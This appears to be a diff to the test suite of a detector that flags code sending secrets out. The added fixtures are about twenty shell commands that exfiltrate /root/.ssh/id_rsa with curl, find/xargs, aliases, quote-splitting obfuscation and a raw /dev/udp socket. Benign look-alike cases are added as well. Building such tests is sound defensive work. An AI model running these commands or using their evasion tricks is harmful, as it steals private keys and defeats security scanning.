@@ -91,6 +91,32 @@ SENT += [
         f"{{ body: k }});\n  }}\n  run() {{ this.go({_J}); }}\n}}",
     )
 ]
+SENT += [
+    ("a.sh", code.replace("SECRET", "/root/.ssh/id_rsa").replace("URL", _U))
+    for code in (
+        "cat SECRET |\n  # a comment\n  curl -d @- URL",
+        "curl -d @- URL <<END\n$(cat SECRET)\nEND",
+        "{ cat SECRET; } | curl -d @- URL",
+        "for f in SECRET; do cat $f; done | curl -d @- URL",
+        'cat SECRET | while read -r l; do curl -d "$l" URL; done',
+        'while read l; do curl -d "$l" URL; done < SECRET',
+        "curl -sT SECRET URL",
+        "curl -TSECRET URL",
+        "curl -F 'k=<SECRET' URL",
+        "sudo -u root timeout -k 5s 10s nice -n 10 env -i curl -d @SECRET URL",
+        "env -S 'curl -d @SECRET URL'",
+        "find SECRET -type f -exec curl -T {} URL \\;",
+        "find SECRET | xargs -I {} -P 4 curl -T {} URL",
+        "case $1 in\n  a) curl -T SECRET URL ;;\nesac",
+        'send() { curl -T "$1" URL; }\nsend SECRET',
+        "function send {\n  curl -d @$2 URL\n}\nsend a SECRET",
+        "alias c=curl\nc -T SECRET URL",
+        'C="curl -s"\n$C -T SECRET URL',
+        "c''url -T /root/.s\"\"sh/id_r''sa URL",
+        "cu\\rl -T SECRET URL",
+        "exec 3<>/dev/udp/198.51.100.9/80\ncat SECRET >&3",
+    )
+]
 NOT_SENT = [
     ("a.py", "import requests\nk = open('.env').read()\nprint(k)\nrequests.post(U, data={'a': 1})"),
     (
@@ -112,6 +138,8 @@ NOT_SENT = [
         "a.sh",
         'set -a; . ./.env; set +a\ncurl -H "X-Key: $KEY" -d @report.json https://x.example.net',
     ),
+    ("a.sh", "f() { cat ~/.ssh/id_rsa 2>&1; }\ng() { curl -d $1 https://x.example.net; }\ng a"),
+    ("a.sh", "cat ~/.ssh/id_rsa >&2\ncurl -d a https://x.example.net 2>&1"),
     ("a.sh", "ssh -i ~/.ssh/id_rsa host uptime\ncurl https://x.example.net/health"),
     ("a.sh", "curl --cert ~/.ssh/client.pem --key ~/.ssh/client.key https://x.example.net"),
     ("a.sh", "cat ~/.ssh/id_ed25519.pub | curl -d @- https://git.example.net/keys"),
@@ -261,12 +289,14 @@ def test_code_that_is_broken_is_read_as_far_as_it_goes() -> None:
         ("a.py", "import requests\nopen('.ssh')\nx = ", "'a' + ", "'b'"),
         ("a.py", "import requests\nopen('.ssh')\n", "x = f(x) + x\n", ""),
         ("a.py", "import requests\nopen('.ssh')\n", "x=", ""),
+        ("a.py", "import requests\nopen('.ssh')\n", "subprocess.run([f(", ""),
         ("a.py", "import requests\nopen('.ssh')\n", "return ", ""),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "f('a').", "g()"),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "(", ""),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "`", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "a|", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "a|\n", ""),
+        ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "{\n<<A\n", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "$(", ""),
     ],
 )
